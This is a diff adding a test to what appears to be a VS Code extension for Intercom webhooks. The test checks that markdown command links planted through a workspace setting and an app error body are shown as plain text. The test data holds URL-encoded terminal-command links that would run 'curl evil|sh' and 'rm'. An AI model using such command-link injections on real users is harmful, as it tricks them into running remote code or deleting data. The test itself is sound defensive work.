@@ -8,6 +8,7 @@ import { findFreePort } from '../../src/webhooks/receiver';
 import { signatureHeader } from '../../src/webhooks/signature';
 import { deliverNotification, type DeliveryFlaw } from '../fake-intercom';
 import { send, startLocalApp, type LocalApp } from '../support/localApp';
+import { notificationLinks } from '../support/notificationLinks';
 import { CLIENT_ID, CLIENT_SECRET, pointAt, setUserSettings, startSandbox, type Sandbox } from './sandbox';
 import { ScriptedUi, activateExtension, until, type TestApi } from './support';
 
@@ -236,6 +237,32 @@ suite('Webhooks (real extension host, fake Intercom deliverer)', function () {
     const curl = await vscode.env.clipboard.readText();
     assert.match(curl, /openssl dgst -sha1 -hmac "\$INTERCOM_CLIENT_SECRET"/);
     assert.ok(!curl.includes(CLIENT_SECRET));
+  });
+
+  test('a forward target the folder set puts no link in any message: Send Test Webhook, Replay, the app\'s error body, Copy as curl', async () => {
+    // A cloned folder's settings.json: the fragment passes the loopback check and reads as a second URL.
+    const planted = '[http://localhost:3000/webhooks](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
+    await vscode.workspace.getConfiguration('intercom').update('webhooks.forwardTo', `${app.url}#${planted}`, vscode.ConfigurationTarget.Workspace);
+    try {
+      ui.answerPicks((items) => items.find((i) => i.label === 'ping'), (items) => items.find((i) => i.label === 'Send'));
+      await vscode.commands.executeCommand('intercom.sendTestWebhook');
+      const sent = await ui.waitForMessage((m) => m.text.startsWith('Forwarded to'));
+
+      await deliver('contact.user.updated');
+      const row = await rowFor('the forwarded row', (r) => r.label === 'contact.user.updated' && /→ 200/.test(r.description));
+      app.answer = { status: 500, body: `[Restart the app](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D) failed` };
+      await vscode.commands.executeCommand('intercom.replayWebhook', row.node);
+      const failed = await ui.waitForMessage((m) => m.text.includes('answered 500'));
+
+      await vscode.commands.executeCommand('intercom.copyWebhookCurl', row.node);
+      const copied = await ui.waitForMessage((m) => m.text.startsWith('Copied a curl command'));
+      for (const shown of [sent, failed, copied]) {
+        assert.ok(shown.text.includes('command:workbench.action.terminal.sendSequence'), `the planted text is still shown, as text: ${shown.text}`);
+        assert.deepEqual(notificationLinks(shown.text), [], shown.text);
+      }
+    } finally {
+      await vscode.workspace.getConfiguration('intercom').update('webhooks.forwardTo', undefined, vscode.ConfigurationTarget.Workspace);
+    }
   });
 
   test('the log survives a reload; Clear empties it', async () => {
